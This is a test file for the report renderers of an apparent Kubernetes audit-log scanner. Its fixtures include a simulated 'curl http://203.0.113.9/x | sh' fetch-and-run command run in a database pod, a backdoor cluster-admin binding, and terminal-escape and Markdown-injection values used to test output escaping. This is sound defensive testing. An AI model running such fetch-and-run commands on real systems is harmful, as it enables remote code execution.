import type { Finding, Severity } from '../../../lambdas/core/finding';
import type { LocatedFinding, ScanSummary } from '../../../lambdas/core/report/aggregate';
import { aggregate, countBySeverity } from '../../../lambdas/core/report/aggregate';
import { renderMarkdown } from '../../../lambdas/core/report/markdown';
import { renderPlainText, textLength, visibleLength } from '../../../lambdas/core/report/plain-text';
import { summaryLine } from '../../../lambdas/core/report/summary-line';
import { groupIntoIncidents } from '../../../lambdas/core/incident/incidents';
import { INCIDENTS_SHOWN, renderJson, renderNdjson, renderTerminal } from '../../../lambdas/core/report/terminal';
import { registryFinding } from '../../helpers/findings';

// ---------------------------------------------------------------------------------------------
// Findings as the engine makes them: metadata from the real registry, the rest per test.

const finding = registryFinding;

const located = (f: Finding, source = 'samples/audit.jsonl'): LocatedFinding => ({ finding: f, source });

function summaryOf(findings: readonly LocatedFinding[], overrides: Partial<ScanSummary> = {}): ScanSummary {
  return {
    objects: 2,
    bytes: 3_456_789,
    events: 12_345,
    skipped: 11_900,
    malformed: 2,
    incomplete: 0,
    findings: findings.length,
    bySeverity: countBySeverity(findings),
    ...overrides,
  };
}

/** Rows of every kind the table meets: long identifiers, a subresource, a namespaced target, repeats. */
function realisticFindings(): LocatedFinding[] {
  const controller = 'system:serviceaccount:kube-system:clusterrole-aggregation-controller';
  return [
    located(
      finding('rbac.privileged-role-bound', {
        summary: 'alice@example.com bound cluster-admin to ServiceAccount kube-system/backdoor via ClusterRoleBinding pwn',
        target: { resource: 'clusterrolebindings', name: 'pwn' },
      }),
    ),
    located(
      finding('rbac.privileged-role-bound', {
        time: '2026-11-20T11:30:00Z',
        summary: 'alice@example.com bound cluster-admin to ServiceAccount kube-system/backdoor via ClusterRoleBinding pwn',
        target: { resource: 'clusterrolebindings', name: 'pwn' },
      }),
    ),
    located(
      finding('exec.pod-exec', {
        severity: 'medium',
        actor: { username: controller },
        target: { resource: 'pods', subresource: 'exec', namespace: 'databases', name: 'postgres-primary-0' },
        summary: `${controller} ran sh -c "curl http://203.0.113.9/x | sh" in pod databases/postgres-primary-0 container postgres`,
      }),
      's3://audit-logs/prod/2026/11/20/part-0001.gz',
    ),
    located(
      finding('service-account.created-in-system-namespace', {
        target: { resource: 'serviceaccounts', namespace: 'kube-system', name: 'backdoor' },
        summary: 'alice@example.com created ServiceAccount kube-system/backdoor',
      }),
    ),
    located(
      finding('image.mutable-tag', {
        severity: 'info',
        target: { resource: 'deployments', apiGroup: 'apps', namespace: 'web', name: 'frontend' },
        summary: 'deployment web/frontend runs nginx:latest',
      }),
    ),
  ];
}

const ESC = '\u001b';
const linesOf = (text: string): string[] => text.split('\n');

// ---------------------------------------------------------------------------------------------

describe('summaryLine', () => {
  it('says what was read, what could not be, and the findings by severity, most severe first', () => {
    const summary: ScanSummary = {
      objects: 3,
      bytes: 1_300_000,
      events: 12_345,
      skipped: 11_900,
      malformed: 2,
      incomplete: 1,
      findings: 6,
      bySeverity: { critical: 1, high: 2, medium: 0, low: 3, info: 0 },
    };
    expect(summaryLine(summary)).toBe(
      '3 objects (1.2 MiB), 12,345 events (11,900 skipped), 2 malformed lines, 1 incomplete object · 6 findings: 1 critical, 2 high, 0 medium, 3 low, 0 info',
    );
  });

  it('always shows malformed lines, shows skipped events and incomplete objects only when there are some, and counts in the singular', () => {
    const summary: ScanSummary = {
      objects: 1,
      bytes: 512,
      events: 1,
      skipped: 0,
      malformed: 0,
      incomplete: 0,
      findings: 1,
      bySeverity: { critical: 0, high: 0, medium: 0, low: 0, info: 1 },
    };
    expect(summaryLine(summary)).toBe('1 object (512 B), 1 event, 0 malformed lines · 1 finding: 0 critical, 0 high, 0 medium, 0 low, 1 info');
  });

  it('has no colour and no line break', () => {
    const line = summaryLine(summaryOf(realisticFindings()));
    expect(line).not.toContain(ESC);
    expect(line).not.toContain('\n');
  });
});

describe('renderTerminal', () => {
  const findings = realisticFindings();
  const rows = aggregate(findings);
  const summary = summaryOf(findings);

  it('shows one aligned line per row under a header, then the summary line at the end', () => {
    const lines = linesOf(renderTerminal(rows, summary, { colour: false, width: 300 }));
    expect(lines[0]).toMatch(/^SEVERITY {2}COUNT {2}RULE +ACTOR +TARGET +FIRST SEEN \(UTC\) {2}LAST SEEN \(UTC\) +SUMMARY$/);
    expect(lines[1]).toMatch(/^-+( {2}-+)+$/);
    expect(lines.slice(2, 2 + rows.length).map((l) => l.split(/ +/)[0])).toEqual(rows.map((r) => r.severity));
    expect(lines[2]).toMatch(
      /^critical {6}2 {2}rbac\.privileged-role-bound +alice@example\.com +clusterrolebindings pwn +2026-11-20 10:00 {2}2026-11-20 11:30 {2}bound cluster-admin to ServiceAccount kube-system\/backdoor via ClusterRoleBinding pwn$/,
    );
    expect(lines[2 + rows.length]).toBe('');
    expect(lines[lines.length - 1]).toBe(summaryLine(summary));
    // Columns start at the same place on every line.
    const targetColumn = lines[0].indexOf('TARGET');
    for (const line of lines.slice(1, 2 + rows.length))
      expect([line[targetColumn - 1], line[targetColumn]]).toEqual([' ', line === lines[1] ? '-' : expect.stringMatching(/\S/)]);
  });

  it('keeps the order it is given', () => {
    const reversed = [...rows].reverse();
    const lines = linesOf(renderTerminal(reversed, summary, { colour: false, width: 300 }));
    expect(lines.slice(2, 2 + rows.length).map((l) => l.split(/ +/)[2])).toEqual(reversed.map((r) => r.ruleId));
  });

  it('has no escape sequences at all without colour', () => {
    expect(renderTerminal(rows, summary, { colour: false })).not.toContain(ESC);
  });

  it('colours each severity with colour: critical bold red, high red, medium yellow, low cyan, info dim', () => {
    const severities: Severity[] = ['critical', 'high', 'medium', 'low', 'info'];
    const one = aggregate(
      severities.map((severity) => located(finding('secret.write', { severity, target: { resource: 'secrets', namespace: 'prod', name: severity } }))),
    );
    const out = renderTerminal(one, summaryOf([]), { colour: true });
    expect(out).toContain(`${ESC}[1;31mcritical${ESC}[0m`);
    expect(out).toContain(`${ESC}[31mhigh${ESC}[0m`);
    expect(out).toContain(`${ESC}[33mmedium${ESC}[0m`);
    expect(out).toContain(`${ESC}[36mlow${ESC}[0m`);
    expect(out).toContain(`${ESC}[2minfo${ESC}[0m`);
    // The summary line stays plain.
    expect(linesOf(out).at(-1)).not.toContain(ESC);
  });

  it('lines up the same with and without colour: colour adds escape sequences, never visible width', () => {
    const plain = linesOf(renderTerminal(rows, summary, { colour: false, width: 120 }));
    const coloured = linesOf(renderTerminal(rows, summary, { colour: true, width: 120 }));
    // eslint-disable-next-line no-control-regex -- stripping ANSI SGR sequences
    expect(coloured.map((l) => l.replace(/\u001b\[[0-9;]*m/g, ''))).toEqual(plain);
  });

  it.each([200, 160, 120, 100, 80, 60, 40, 20, 8, 1])('keeps every line within %i visible characters', (width) => {
    for (const colour of [false, true]) {
      for (const line of linesOf(renderTerminal(rows, summary, { colour, width }))) expect(visibleLength(line)).toBeLessThanOrEqual(width);
    }
  });

  it('defaults to 160 columns', () => {
    const long = aggregate([located(finding('exec.pod-exec', { summary: 'x'.repeat(500) }))]);
    const lines = linesOf(renderTerminal(long, summaryOf([]), { colour: false }));
    expect(Math.max(...lines.map(visibleLength))).toBe(160);
  });

  it('cuts long cells with "…": summaries at the end, identifiers in the middle, so their distinctive end stays', () => {
    const lines = linesOf(renderTerminal(rows, summary, { colour: false, width: 150 }));
    const exec = lines.find((l) => l.includes('exec.pod-exec'));
    expect(exec).toMatch(/system:s\S*…\S*-controller /);
    expect(exec).toMatch(/ ran sh -c "curl \S*…$/);
  });

  it('gives way at narrower widths: the summary shrinks first, then the times go, and severity, count and rule stay', () => {
    const header = (width: number) => linesOf(renderTerminal(rows, summary, { colour: false, width }))[0];
    const columns = (width: number) => header(width).split(/ {2,}/);
    expect(columns(200)).toEqual(['SEVERITY', 'COUNT', 'RULE', 'ACTOR', 'TARGET', 'FIRST SEEN (UTC)', 'LAST SEEN (UTC)', 'SUMMARY']);
    // The longest rule id of the registry (43 characters) is in these rows.
    expect(columns(160)).toEqual(['SEVERITY', 'COUNT', 'RULE', 'ACTOR', 'TARGET', 'LAST SEEN (UTC)', 'SUMMARY']);
    expect(columns(120)).toEqual(['SEVERITY', 'COUNT', 'RULE', 'ACTOR', 'TARGET', 'SUMMARY']);
    expect(columns(40)).toEqual(['SEVERITY', 'COUNT', 'RULE']);
  });

  it('keeps the summary readable (30 characters or more) at 160 columns', () => {
    const summaryColumn =
      linesOf(renderTerminal(rows, summary, { colour: false }))[1]
        .split('  ')
        .at(-1) ?? '';
    expect(summaryColumn.length).toBeGreaterThanOrEqual(30);
  });

  it('cuts rule ids late, since they are what a reader types next: ids up to 30 characters stay whole down to 100 columns', () => {
    const usual = rows.filter((r) => r.ruleId.length <= 30);
    for (const width of [160, 120, 100]) {
      const out = renderTerminal(usual, summary, { colour: false, width });
      for (const row of usual) expect(out).toContain(` ${row.ruleId} `);
    }
    // A longer one is cut (to no less than 30) only once first seen is gone.
    const longest = linesOf(renderTerminal(rows, summary, { colour: false, width: 160 }));
    expect(longest[0]).not.toContain('FIRST SEEN');
    expect(longest.join('\n')).toMatch(/ service-account\.created-in-s\S{2,}… /);
  });

  it('leaves out of the summary cell the actor it starts with, which the actor column already shows', () => {
    const out = renderTerminal(rows, summary, { colour: false, width: 300 });
    expect(out).toContain('  created ServiceAccount kube-system/backdoor');
    expect(out).not.toContain('alice@example.com created');
    // Only an exact prefix: a summary about someone else keeps its start.
    expect(out).toContain('  deployment web/frontend runs nginx:latest');
  });

  it('says "no findings" when there are none, and still gives the summary line', () => {
    const empty = summaryOf([]);
    expect(renderTerminal([], empty, { colour: true })).toBe(`no findings\n\n${summaryLine(empty)}`);
  });

  it('shows control characters from the log as \\u{…}, so a value cannot drive the terminal or break the table', () => {
    const hostile = aggregate([located(finding('secret.write', { actor: { username: `mallory${ESC}]0;pwned\u0007` }, summary: `line one\nline two\u202e` }))]);
    for (const colour of [false, true]) {
      const out = renderTerminal(hostile, summaryOf([]), { colour, width: 300 });
      expect(out).toContain('mallory\\u{1b}]0;pwned\\u{7}');
      expect(out).toContain('line one\\u{a}line two\\u{202e}');
      // eslint-disable-next-line no-control-regex -- every ESC left must start one of our SGR sequences
      expect(out.replace(/\u001b\[[0-9;]*m/g, '')).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
    }
  });
});

describe('renderTerminal with incidents', () => {
  /** One incident per person: `n` people, each binding a role (high or critical by the registry). */
  function peopleFindings(n: number): LocatedFinding[] {
    return Array.from({ length: n }, (_, i) =>
      located(
        finding(i === 3 ? 'rbac.privileged-role-bound' : 'secret.write', {
          actor: { username: `person-${i}@example.com`, groups: ['system:authenticated'] },
          cluster: 'prod-eu',
          time: `2026-11-20T10:${String(i).padStart(2, '0')}:00Z`,
        }),
      ),
    );
  }

  it('puts one block per incident above the table, most severe first: severity, title, principal, cluster, time, count', () => {
    const located = peopleFindings(2);
    const incidents = groupIntoIncidents(located, 60);
    const out = renderTerminal(aggregate(located), summaryOf(located), { colour: false, width: 160, incidents });
    const lines = linesOf(out);
    expect(lines[0]).toBe('Incidents (2, most severe first)');
    const block = lines.slice(2, 7);
    expect(block[0]).toMatch(/^[A-Z]+ +person-0@example\.com .* in prod-eu$/);
    expect(block.slice(1).map((l) => l.trim())).toEqual([
      'principal: person-0@example.com',
      'cluster: prod-eu',
      'time: 2026-11-20 10:00 UTC',
      '1 finding group, 1 finding',
    ]);
    // The table follows the blocks.
    const lastBlock = lines.findIndex((l) => l.trim() === 'principal: person-1@example.com');
    expect(lastBlock).toBeGreaterThan(6);
    expect(lines.findIndex((l) => l.startsWith('SEVERITY'))).toBeGreaterThan(lastBlock);
  });

  it(`shows at most ${INCIDENTS_SHOWN} incidents, the most severe first, and counts the rest`, () => {
    const located = peopleFindings(INCIDENTS_SHOWN + 3);
    const incidents = groupIntoIncidents(located, 60);
    const out = renderTerminal(aggregate(located), summaryOf(located), { colour: false, width: 160, incidents });
    const titles = linesOf(out).filter((l) => /^(CRITICAL|HIGH|MEDIUM|LOW|INFO) /.test(l));
    expect(titles).toHaveLength(INCIDENTS_SHOWN);
    expect(titles[0]).toMatch(/^CRITICAL +person-3@example\.com/);
    expect(out).toContain('…and 3 more incidents');
  });

  it('keeps every line within the width, colour or not, and colours the severity only on request', () => {
    const located = peopleFindings(4);
    const incidents = groupIntoIncidents(located, 60);
    for (const width of [20, 39, 40, 72, 120]) {
      for (const colour of [false, true]) {
        const out = renderTerminal(aggregate(located), summaryOf(located), { colour, width, incidents });
        for (const line of linesOf(out)) expect(visibleLength(line)).toBeLessThanOrEqual(width);
      }
    }
    const plain = renderTerminal(aggregate(located), summaryOf(located), { colour: false, incidents });
    expect(plain).not.toContain(ESC);
    const coloured = renderTerminal(aggregate(located), summaryOf(located), { colour: true, incidents });
    expect(coloured).toContain(`${ESC}[1;31mCRITICAL${ESC}[0m`);
  });

  it('shows what the log named through displayText: a principal or cluster cannot drive the terminal', () => {
    const hostile = [
      located(finding('secret.write', { actor: { username: `mallory${ESC}]0;pwned\u0007` }, cluster: `prod\u202e`, time: '2026-11-20T10:00:00Z' })),
    ];
    const incidents = groupIntoIncidents(hostile, 60);
    const out = renderTerminal(aggregate(hostile), summaryOf(hostile), { colour: true, width: 160, incidents });
    expect(out).toContain('principal: mallory\\u{1b}]0;pwned\\u{7}');
    expect(out).toContain('cluster: prod\\u{202e}');
    // eslint-disable-next-line no-control-regex -- every ESC left must start one of our SGR sequences
    expect(out.replace(/\u001b\[[0-9;]*m/g, '')).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
  });

  it('says an incident of an unnamed cluster is in an unnamed cluster', () => {
    const located = [finding('secret.write', { time: '2026-11-20T10:00:00Z' })].map((f) => ({ finding: f, source: 'a.log' }));
    const out = renderTerminal(aggregate(located), summaryOf(located), { colour: false, width: 160, incidents: groupIntoIncidents(located, 60) });
    expect(out).toMatch(/ in an unnamed cluster\n/);
    expect(out).toContain('cluster: an unnamed cluster');
  });
});

describe('renderPlainText', () => {
  const many = Array.from({ length: 30 }, (_, i) =>
    located(finding('secret.read', { severity: 'medium', target: { resource: 'secrets', namespace: 'prod', name: `db-${i}` } })),
  );
  const rows = aggregate(many);
  const summary = summaryOf(many);

  it('puts the summary line first, then the table, the summary of each row on an indented line under it', () => {
    const lines = linesOf(renderPlainText(rows.slice(0, 3), summary, { width: 200 }));
    expect(lines[0]).toBe(summaryLine(summary));
    expect(lines[1]).toBe('');
    expect(lines[2]).toMatch(/^SEVERITY {2}COUNT {2}RULE +ACTOR +TARGET +FIRST SEEN \(UTC\) {2}LAST SEEN \(UTC\)$/);
    expect(lines[3]).toMatch(/^-{8} {2}-{5} {2}-+/);
    expect(lines.slice(4)).toEqual([
      // Ties in the order are broken by name, not arrival: db-10 sorts before db-2.
      'medium        1  secret.read  alice@example.com  secrets prod/db-0   2026-11-20 10:00  2026-11-20 10:00',
      `    ${rows[0].summary.replace('alice@example.com ', '')}`,
      'medium        1  secret.read  alice@example.com  secrets prod/db-1   2026-11-20 10:00  2026-11-20 10:00',
      `    ${rows[1].summary.replace('alice@example.com ', '')}`,
      'medium        1  secret.read  alice@example.com  secrets prod/db-10  2026-11-20 10:00  2026-11-20 10:00',
      `    ${rows[2].summary.replace('alice@example.com ', '')}`,
    ]);
  });

  it('cuts a long summary at the line width with "…"', () => {
    const long = aggregate([located(finding('secret.read', { summary: `alice@example.com read ${'x'.repeat(300)}` }))]);
    const lines = linesOf(renderPlainText(long, summaryOf([]), { width: 100 }));
    expect(lines.at(-1)).toBe(`    read ${'x'.repeat(90)}…`);
  });

  it('shows at most 25 rows by default, then "…and N more"', () => {
    const lines = linesOf(renderPlainText(rows, summary));
    expect(lines.filter((l) => l.startsWith('medium '))).toHaveLength(25);
    expect(lines.at(-1)).toBe('…and 5 more');
  });

  it('takes another limit, and no "more" line when everything fits', () => {
    expect(linesOf(renderPlainText(rows, summary, { maxRows: 3 })).filter((l) => l.startsWith('medium '))).toHaveLength(3);
    expect(linesOf(renderPlainText(rows, summary, { maxRows: 3 })).at(-1)).toBe('…and 27 more');
    expect(renderPlainText(rows, summary, { maxRows: 30 })).not.toContain('more');
    expect(linesOf(renderPlainText(rows, summary, { maxRows: 0 })).at(-1)).toBe('…and 30 more');
  });

  it('keeps the order it is given', () => {
    const reversed = [...rows].reverse().slice(0, 5);
    const lines = linesOf(renderPlainText(reversed, summary, { width: 200 }));
    expect(lines.filter((l) => l.startsWith('medium ')).map((l) => /prod\/(db-\d+)/.exec(l)?.[1])).toEqual(reversed.map((r) => r.target.name));
  });

  it.each([100, 72, 60, 30, 10])('keeps every line within %i characters, the summary line wrapped', (width) => {
    const findings = realisticFindings();
    const text = renderPlainText(aggregate(findings), summaryOf(findings), { width });
    for (const line of linesOf(text)) expect(textLength(line)).toBeLessThanOrEqual(width);
  });

  it('keeps every line within the default 100 characters', () => {
    const findings = realisticFindings();
    for (const line of linesOf(renderPlainText(aggregate(findings), summaryOf(findings)))) expect(textLength(line)).toBeLessThanOrEqual(100);
  });

  it('is monospace-safe: no colour, no tabs, no box-drawing characters', () => {
    const findings = realisticFindings();
    const text = renderPlainText(aggregate(findings), summaryOf(findings));
    expect(text).not.toContain(ESC);
    expect(text).not.toMatch(/[\t\u2500-\u257f]/);
  });

  it('keeps non-ASCII values and pads them by characters, so the columns still line up', () => {
    const names = aggregate([
      located(finding('secret.write', { actor: { username: 'jürgen.müller@example.com' }, target: { resource: 'secrets', namespace: 'prod', name: 'a' } })),
      located(finding('secret.write', { actor: { username: 'bob@example.com' }, target: { resource: 'secrets', namespace: 'prod', name: 'b' } })),
    ]);
    const lines = linesOf(renderPlainText(names, summaryOf([]), { width: 200 })).slice(2);
    const [header, , bob, , jurgen] = lines; // ties sort by actor
    expect(jurgen).toContain('jürgen.müller@example.com');
    const codePointIndex = (line: string) => [...line.slice(0, line.indexOf('secrets prod/'))].length;
    expect(codePointIndex(jurgen)).toBe(codePointIndex(bob));
    expect(header.indexOf('TARGET')).toBe(codePointIndex(jurgen));
  });

  it('says "no findings" when there are none', () => {
    const empty = summaryOf([]);
    expect(renderPlainText([], empty, { width: 200 })).toBe(`${summaryLine(empty)}\n\nno findings`);
  });
});

describe('renderMarkdown', () => {
  const findings = realisticFindings();
  const rows = aggregate(findings);
  const summary = summaryOf(findings);

  /** The cells of a table row, split on the `|` GFM splits on (not on `\|`). */
  const cellsOf = (line: string): string[] => line.slice(2, -2).split(/(?<!\\) \| /);

  it('puts the summary line above a GFM table, one row per group in the order given, rule ids in backticks', () => {
    const reversed = [...rows].reverse();
    const lines = linesOf(renderMarkdown(reversed, summary));
    expect(lines[0]).toBe(summaryLine(summary));
    expect(lines[1]).toBe('');
    expect(lines[2]).toBe('| Severity | Count | Rule | Actor | Target | First seen (UTC) | Last seen (UTC) | Summary |');
    expect(lines[3]).toBe('| --- | ---: | --- | --- | --- | --- | --- | --- |');
    expect(lines.slice(4)).toHaveLength(rows.length);
    expect(lines.slice(4).map((l) => cellsOf(l)[2])).toEqual(reversed.map((r) => `\`${r.ruleId}\``));
    expect(cellsOf(lines.at(-1) ?? '')).toEqual([
      '**critical**',
      '2',
      '`rbac.privileged-role-bound`',
      '`alice@example.com`',
      '`clusterrolebindings pwn`',
      '2026-11-20 10:00',
      '2026-11-20 11:30',
      'alice@example.com bound cluster-admin to ServiceAccount kube-system/backdoor via ClusterRoleBinding pwn',
    ]);
  });

  it('escapes | wherever it appears, so a value cannot add a cell', () => {
    const piped = aggregate([
      located(
        finding('exec.pod-exec', {
          actor: { username: 'a|b' },
          summary: 'ran sh -c "curl x | sh"',
          target: { resource: 'pods', subresource: 'exec', namespace: 'ns', name: 'p' },
        }),
      ),
    ]);
    const row = linesOf(renderMarkdown(piped, summaryOf([]))).at(-1) ?? '';
    expect(row.match(/(?<!\\)\|/g)).toHaveLength(9);
    expect(cellsOf(row)[3]).toBe('`a\\|b`');
    expect(cellsOf(row)[7]).toBe('ran sh -c "curl x \\| sh"');
  });

  it('escapes Markdown in summaries, so log values cannot become links, emphasis or HTML', () => {
    const hostile = aggregate([located(finding('secret.write', { summary: '*bold* _it_ [click](https://evil.example) <img src=x> `code` ~~s~~ &amp; \\' }))]);
    const row = linesOf(renderMarkdown(hostile, summaryOf([]))).at(-1) ?? '';
    expect(cellsOf(row)[7]).toBe('\\*bold\\* \\_it\\_ \\[click\\](https://evil.example) \\<img src=x\\> \\`code\\` \\~\\~s\\~\\~ \\&amp; \\\\');
  });

  it('puts identifiers with backticks in a longer code fence', () => {
    const ticked = aggregate([
      located(finding('secret.write', { actor: { username: 'a`b``c' } })),
      located(finding('secret.write', { actor: { username: '`x`' } })),
    ]);
    const lines = linesOf(renderMarkdown(ticked, summaryOf([])));
    expect(lines.map((l) => (l.startsWith('| ') ? cellsOf(l)[3] : ''))).toEqual(expect.arrayContaining(['```a`b``c```', '`` `x` ``']));
  });

  it('keeps each row on one line whatever the log holds', () => {
    const broken = aggregate([located(finding('secret.write', { actor: { username: 'eve\n| x | y |' }, summary: 'one\r\ntwo' }))]);
    const lines = linesOf(renderMarkdown(broken, summaryOf([])));
    expect(lines).toHaveLength(5);
    expect(lines[4]).toContain('`eve\\u{a}\\| x \\| y \\|`');
    // In text the marker's backslash is escaped too: it renders as one\u{d}\u{a}two.
    expect(lines[4]).toContain('one\\\\u{d}\\\\u{a}two');
  });

  it('says "No findings." under the summary line when there are none', () => {
    const empty = summaryOf([]);
    expect(renderMarkdown([], empty)).toBe(`${summaryLine(empty)}\n\nNo findings.`);
  });
});

describe('renderJson and renderNdjson', () => {
  const findings = realisticFindings();
  const rows = aggregate(findings);

  it('renderJson writes one document with exactly findings, incidents, table and stats, in that order, indented by 2', () => {
    const stats = { objects: 2, events: 12_345 };
    const incidents = groupIntoIncidents(findings, 60);
    // Given in another order: the document's order is fixed.
    const text = renderJson({ stats, table: rows, incidents, findings: findings.map((f) => f.finding) });
    const doc = JSON.parse(text) as Record<string, unknown>;
    expect(Object.keys(doc)).toEqual(['findings', 'incidents', 'table', 'stats']);
    expect(doc).toEqual({ findings: findings.map((f) => f.finding), incidents, table: rows, stats });
    expect(incidents.length).toBeGreaterThan(0);
    expect(text).toMatch(/^\{\n {2}"findings": \[\n {4}\{/);
  });

  it('renderJson keeps incidents as [] and stats as null rather than leaving the keys out', () => {
    const doc = JSON.parse(renderJson({ findings: [], table: [], stats: undefined })) as object;
    expect(doc).toEqual({ findings: [], incidents: [], table: [], stats: null });
  });

  it('renderNdjson writes one finding per line', () => {
    const text = renderNdjson(findings.map((f) => f.finding));
    const lines = text.split('\n');
    expect(lines.at(-1)).toBe('');
    expect(lines.slice(0, -1).map((l) => JSON.parse(l) as Finding)).toEqual(findings.map((f) => f.finding));
    expect(renderNdjson([])).toBe('');
  });
});
